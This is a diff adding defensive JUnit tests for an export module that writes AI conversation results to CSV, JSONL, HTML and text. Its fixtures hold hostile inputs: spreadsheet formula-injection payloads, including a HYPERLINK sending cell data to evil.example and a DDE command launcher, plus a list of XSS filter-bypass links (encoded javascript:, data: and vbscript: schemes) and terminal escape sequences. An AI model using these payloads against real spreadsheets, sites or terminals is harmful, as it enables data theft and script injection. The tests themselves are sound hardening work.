@@ -234,6 +234,148 @@ class ExportsTests {
 	}
 
 	@Test
+	@SuppressWarnings("unchecked")
+	void csvCellsThatASpreadsheetWouldEvaluateAreWrittenAsTextAndJsonKeepsThemExact() throws Exception {
+		// given: an id, an error, answers and a prompt that a spreadsheet would take for formulas
+		List<String> formulas = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
+				"-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1");
+		RunRecord risky = new RunRecord(9, "risky", null, "input/items.csv", this.dir.resolve("risky").toString(), null,
+				Instant.parse("2026-11-25T10:00:00Z"));
+		this.store.registerRun(risky);
+		List<Conversation> conversations = new ArrayList<>();
+		for (int i = 0; i < formulas.size(); i++) {
+			String formula = formulas.get(i);
+			conversations.add(new Conversation(i + 1, formula + i, "ai/tiny", Conversation.FAILED, formula,
+					List.of(new Conversation.Turn("user", "answer", formula), new Conversation.Turn("assistant", "answer", formula)),
+					List.of(new Conversation.Call(0, "answer", "stop", 1, 1, 1, 1, null, null, null))));
+		}
+		this.store.saveAll(9, conversations);
+
+		// when
+		this.exports.write(risky, List.of("csv", "jsonl"));
+
+		// then: every such cell is quoted and starts with a single quote, read back as the value behind that quote
+		String raw = Files.readString(this.dir.resolve("risky/results.csv"));
+		for (String formula : formulas) {
+			assertThat(raw).contains("\"'" + formula.replace("\"", "\"\"")).doesNotContain("," + formula);
+		}
+		ItemStreamReader<InputItem> csv = InputReaders
+			.reader(new InputSource("csv", this.dir.resolve("risky/results.csv"), "id", "csv"));
+		csv.open(new ExecutionContext());
+		List<InputItem> rows = new ArrayList<>();
+		for (InputItem row = csv.read(); row != null; row = csv.read()) {
+			rows.add(row);
+		}
+		csv.close();
+		assertThat(rows).hasSize(formulas.size());
+		for (int i = 0; i < formulas.size(); i++) {
+			// (the line-based reader gives a quoted CR back as a line feed)
+			String formula = formulas.get(i).replace('\r', '\n');
+			assertThat(rows.get(i).fields()).containsEntry("id", "'" + formula + i)
+				.containsEntry("error", "'" + formula)
+				.containsEntry("answer", "'" + formula);
+		}
+		// and JSON Lines keeps every value exact
+		List<String> lines = Files.readAllLines(this.dir.resolve("risky/results.jsonl"));
+		for (int i = 0; i < formulas.size(); i++) {
+			Map<String, Object> item = JSON.readValue(lines.get(i), Map.class);
+			assertThat(item).containsEntry("id", formulas.get(i) + i).containsEntry("error", formulas.get(i));
+			assertThat((Map<String, Object>) item.get("steps")).containsEntry("answer", formulas.get(i));
+		}
+	}
+
+	/** Links that filters on the written text miss: entities, case, controls and blanks in the scheme. */
+	static final List<String> LINK_BYPASSES = List.of("[a](&#106;avascript:alert(1))", "[b](&#x6A;avascript:alert(1))",
+			"[c](&#0000106avascript:alert(1))", "[d](JaVaScRiPt:alert(1))", "[e](jav&#x09;ascript:alert(1))",
+			"[f](java&#x0A;script:alert(1))", "[g](java&Tab;script:alert(1))", "[h](<java script:alert(1)>)",
+			"[i](<\u0001javascript:alert(1)>)", "[j](&#32;javascript:alert(1))", "<javascript:alert(1)>",
+			"<JAVASCRIPT:alert(1)>", "[k](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+			"[l](&#100;ata:text/html,x)", "[m](DaTa:text/html,x)", "[n](vbscript:msgbox(1))", "[o](&#118;bscript:x)",
+			"[p](VBScript:x)", "[q][ref]\n\n[ref]: &#106;avascript:alert(1)", "[r](file:///etc/passwd)",
+			"[s](javascript&colon;alert(1))", "[t](jav\tascript:alert(1))", "![u](javascript:alert(1))",
+			"<a href=\"jav&#x09;ascript:alert(1)\">v</a>", "<a href=\"&#106;avascript:alert(1)\">w</a>",
+			"<img src=\"javascript:alert(1)\">", "[x](ftp://example.com/file)");
+
+	@Test
+	void reportLinksKeepOnlyAllowedSchemesWhateverTheirSpelling() throws Exception {
+		// given: answers and a prompt with links that must die, and the kinds that must live
+		RunRecord links = new RunRecord(10, "links", null, "input/items.csv", this.dir.resolve("links").toString(), null,
+				Instant.parse("2026-11-25T10:00:00Z"));
+		this.store.registerRun(links);
+		List<Conversation> conversations = new ArrayList<>();
+		String all = String.join("\n\n", LINK_BYPASSES);
+		List<String> answers = new ArrayList<>(LINK_BYPASSES);
+		answers.add(all);
+		answers.add("[web](https://example.com/a?b=1) [plain](http://example.com) [mail](mailto:a@example.com) "
+				+ "[page](other.html#part) [top](#top)");
+		for (int i = 0; i < answers.size(); i++) {
+			conversations.add(new Conversation(i + 1, "i" + i, "ai/tiny", Conversation.OK, null,
+					List.of(new Conversation.Turn("user", "answer", all), new Conversation.Turn("assistant", "answer", answers.get(i))),
+					List.of(new Conversation.Call(0, "answer", "stop", 1, 1, 1, 1, null, null, null))));
+		}
+		this.store.saveAll(10, conversations);
+
+		// when
+		this.exports.write(links, List.of("html"));
+
+		// then: read as a browser reads it, no link or source has a scheme outside http, https and mailto
+		org.jsoup.nodes.Document report = org.jsoup.Jsoup.parse(this.dir.resolve("links/report.html").toFile());
+		List<String> urls = new ArrayList<>();
+		for (org.jsoup.nodes.Element element : report.select("[href], [src], [action], [formaction], [xlink:href]")) {
+			for (org.jsoup.nodes.Attribute attribute : element.attributes()) {
+				if (List.of("href", "src", "action", "formaction", "xlink:href").contains(attribute.getKey())) {
+					urls.add(attribute.getValue());
+				}
+			}
+		}
+		assertThat(urls).isNotEmpty().allSatisfy((url) -> {
+			// what browsers do with a URL before they read its scheme
+			String seen = url.replaceAll("[\\t\\n\\r]", "").replaceAll("^[\\x00-\\x20]+", "").toLowerCase();
+			java.util.regex.Matcher scheme = java.util.regex.Pattern.compile("^([a-z][a-z0-9+.-]*):").matcher(seen);
+			if (scheme.find()) {
+				assertThat(scheme.group(1)).as(url).isIn("http", "https", "mailto");
+			}
+		});
+		assertThat(urls).contains("https://example.com/a?b=1", "http://example.com", "mailto:a@example.com",
+				"other.html#part", "#top");
+		assertThat(report.select(".answer").select("img, iframe, object, embed, form, svg, math, style")).isEmpty();
+		assertThat(report.select(".answer")).hasSize(answers.size());
+	}
+
+	@Test
+	@SuppressWarnings("unchecked")
+	void textExportsShowControlCharactersAsEscapesAndJsonKeepsThemExact() throws Exception {
+		// given: an id, a prompt, an answer and an error holding ESC, BEL and NUL
+		String hostile = "clear\u001b[2J\u001b]0;title\u0007 nul\u0000 end";
+		RunRecord controls = new RunRecord(11, "controls", null, "input/items.csv",
+				this.dir.resolve("controls").toString(), null, Instant.parse("2026-11-25T10:00:00Z"));
+		this.store.registerRun(controls);
+		this.store.saveAll(11, List.of(
+				new Conversation(1, "id-" + hostile, "ai/tiny", Conversation.OK, null,
+						List.of(new Conversation.Turn("user", "answer", "prompt " + hostile),
+								new Conversation.Turn("assistant", "answer", "answer " + hostile + "\nsecond\tline")),
+						List.of(new Conversation.Call(0, "answer", "stop", 1, 1, 1, 1, null, null, null))),
+				new Conversation(2, "two", "ai/tiny", Conversation.FAILED, "error " + hostile, List.of(), List.of())));
+
+		// when
+		this.exports.write(controls, List.of("jsonl", "markdown", "text"));
+
+		// then
+		String shown = "clear\\u001b[2J\\u001b]0;title\\u0007 nul\\u0000 end";
+		for (String file : List.of("results.txt", "results.md")) {
+			String text = Files.readString(this.dir.resolve("controls").resolve(file));
+			assertThat(text).as(file)
+				.doesNotContain("\u001b", "\u0007", "\u0000")
+				.contains("id-" + shown, "prompt " + shown, "answer " + shown + "\nsecond\tline", "error " + shown);
+		}
+		List<String> lines = Files.readAllLines(this.dir.resolve("controls/results.jsonl"));
+		Map<String, Object> first = JSON.readValue(lines.get(0), Map.class);
+		assertThat(first).containsEntry("id", "id-" + hostile);
+		assertThat((Map<String, Object>) first.get("steps")).containsEntry("answer", "answer " + hostile + "\nsecond\tline");
+		assertThat(JSON.readValue(lines.get(1), Map.class)).containsEntry("error", "error " + hostile);
+	}
+
+	@Test
 	void csvQuotingFollowsRfc4180() {
 		assertThat(CsvExporter.quote("plain")).isEqualTo("plain");
 		assertThat(CsvExporter.quote("a,b")).isEqualTo("\"a,b\"");
